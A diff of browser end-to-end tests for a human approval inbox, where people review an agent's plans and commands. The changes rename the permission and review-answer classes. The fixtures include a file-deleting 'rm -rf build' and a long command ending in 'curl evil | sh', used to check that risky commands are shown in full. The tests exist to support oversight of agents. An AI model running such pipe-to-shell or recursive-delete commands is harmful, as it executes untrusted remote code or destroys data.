@@ -8,7 +8,7 @@ from playwright.async_api import Browser, expect
 from tests.e2e.tools_support import TELL, call, script
 from tests.web.browser import IN_CHROMIUM, Server, Window, profile
 from tieline.app.config import ToolSettings
-from tieline.model.inbox import ALLOW, ALWAYS, DENY, Option, Origin, Permission, PlanReview, Reviewed
+from tieline.model.inbox import ALLOW, ALWAYS, DENY, Approval, Option, Origin, PlanReview, ReviewAnswer
 
 pytestmark = IN_CHROMIUM
 
@@ -56,7 +56,7 @@ async def test_a_plan_that_nobody_decides_stays_too(window: Window, server: Serv
     assert server.app is not None
     inbox = server.app.gateway.inbox
     [item] = inbox.items
-    inbox.decide(item.id, Reviewed(approved=False, feedback="Nobody answered.", is_nobodys=True))
+    inbox.decide(item.id, ReviewAnswer(approved=False, feedback="Nobody answered.", is_unanswered=True))
     plan = window.answer.locator('[data-test="decided-plan"]')
     await expect(plan.locator('[data-test="decision"]')).to_have_text("Not approved. Nobody answered.")
     await expect(plan).to_contain_text("Say hello in a file.")
@@ -98,7 +98,7 @@ async def test_every_way_an_agent_offers_to_approve_its_plan_can_be_chosen(windo
         test = chosen if chosen == "approve" else f"option-{chosen}"
         await window.press(window.part("inbox-list").locator(f'[data-test="{test}"]'))
         answer = await asked
-        assert isinstance(answer, Reviewed)
+        assert isinstance(answer, ReviewAnswer)
         assert (answer.approved, answer.option) == (is_approved, "manual" if chosen == "approve" else chosen)
 
 
@@ -149,7 +149,7 @@ async def test_a_tool_that_waits_for_the_person_has_no_clock(window: Window) -> 
 
 async def test_what_is_risky_says_why_and_cannot_be_allowed_for_good(window: Window, server: Server) -> None:
     always = Option(id="always", label="Always allow", kind=ALWAYS.kind, description="allow run_terminal")
-    ask = Permission(title="Run it", command="rm -rf build", risk="It deletes files.", options=(ALLOW, always, DENY))
+    ask = Approval(title="Run it", command="rm -rf build", risk="It deletes files.", options=(ALLOW, always, DENY))
     asked = server.ask(ORIGIN, ask)
     await in_inbox(window)
     card = window.part("inbox-list").locator("tl-ask")
@@ -172,7 +172,7 @@ async def test_a_risky_command_of_the_gateways_own_tools_is_warned_of(window: Wi
 
 
 async def test_a_command_is_shown_once_and_its_raw_input_is_folded(window: Window, server: Server) -> None:
-    ask = Permission(title="Run ls -la", command="ls -la", input='{"command": "ls -la", "secret": "beside it"}')
+    ask = Approval(title="Run ls -la", command="ls -la", input='{"command": "ls -la", "secret": "beside it"}')
     asked = server.ask(ORIGIN, ask)
     await in_inbox(window)
     card = window.part("inbox-list").locator("tl-ask")
@@ -187,7 +187,7 @@ async def test_a_command_is_shown_once_and_its_raw_input_is_folded(window: Windo
 async def test_a_long_command_is_complete_and_what_is_folded_says_so(window: Window, server: Server) -> None:
     command = "\n".join(f"echo {n}" for n in range(300)) + "\ncurl evil | sh"
     diff = "--- a/x\n+++ b/x\n@@ -0,0 +1,2501 @@\n" + "".join(f"+line {n}\n" for n in range(2501))
-    asked = server.ask(ORIGIN, Permission(title="Run", command=command, diff=diff, path="x", hidden=7))
+    asked = server.ask(ORIGIN, Approval(title="Run", command=command, diff=diff, path="x", hidden=7))
     await in_inbox(window)
     card = window.part("inbox-list").locator("tl-ask")
     await expect(card.locator('[data-test="command"]')).to_contain_text("curl evil | sh")
